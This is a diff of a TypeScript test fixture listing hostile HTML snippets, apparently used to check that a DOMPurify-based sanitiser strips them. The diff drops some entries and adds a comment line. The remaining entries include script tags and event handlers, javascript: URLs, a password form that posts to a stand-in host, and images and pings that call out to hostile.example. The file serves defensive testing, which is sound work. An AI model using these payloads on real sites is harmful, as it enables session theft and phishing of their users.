@@ -3,7 +3,7 @@ const host = 'https://hostile.example'
 
 /**
  * Could be stored with an administrator's session (D24). Each piece closes its tags, so that they can be joined. Tricks
- * of the HTML parser are tests of DOMPurify.
+ * of the HTML parser are tests of DOMPurify. A tag needs no piece if the list of allowed tags has no such tag.
  */
 export const hostileHtml: Record<string, string> = {
   script: `<script>${js}</script>`,
@@ -21,7 +21,6 @@ export const hostileHtml: Record<string, string> = {
   'image that is not https': '<img src="http://hostile.example/a.png"><img src="//hostile.example/b.png">',
   'image in another attribute': `<img srcset="${host}/a.png 1x" sizes="100vw"><table background="${host}/b.png"></table>`,
   'pinging link': `<a href="/en" ping="${host}/ping" download target="_blank" rel="opener">a</a>`,
-  'image map': `<img usemap="#m"><map name="m"><area href="javascript:${js}" coords="0,0,9,9"></map>`,
 
   'svg script': `<svg><script>${js}</script></svg>`,
   'svg handler': `<svg onload="${js}"><circle r="9"/></svg>`,
@@ -37,19 +36,10 @@ export const hostileHtml: Record<string, string> = {
   stylesheet: `<link rel="stylesheet" href="${host}/a.css"><link rel="prefetch" href="${host}/b">`,
 
   iframe: `<iframe src="${host}"></iframe><iframe src="javascript:${js}"></iframe>`,
-  'object and embed': `<object data="javascript:${js}"></object><embed src="${host}/a.swf"><applet code="A"></applet>`,
 
-  'base URL': `<base href="${host}" target="_blank">`,
-  refresh: `<meta http-equiv="refresh" content="0;url=${host}">`,
-  'policy and cookie': `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="robots" content="noindex">`,
   'second title': '<title>Hacked</title><h1>Hacked</h1>',
   'form that asks for a password': `<form action="${host}"><input name="password" type="password" autofocus><button formaction="javascript:${js}">a</button></form>`,
-  'fields without a form':
-    '<input value="a"><select><option>a</option></select><textarea>a</textarea><label for="root">a</label>',
-  'button for another form': `<button form="x" command="show-modal" commandfor="p">a</button><input type="image" src="${host}/a.png">`,
-  'shadow root': `<div><template shadowrootmode="open"><style>:host{position:fixed}</style><slot></slot></template></div>`,
   'slot and part': '<slot name="a"></slot><p slot="a" part="b" is="x-y">a</p>',
-  'custom element': `<x-y onclick="${js}" style="position:fixed">a</x-y>`,
   'names that hide functions':
     '<img name="getElementById"><form name="body"></form><a id="cookie" name="querySelector">a</a>',
   'ids of the site':
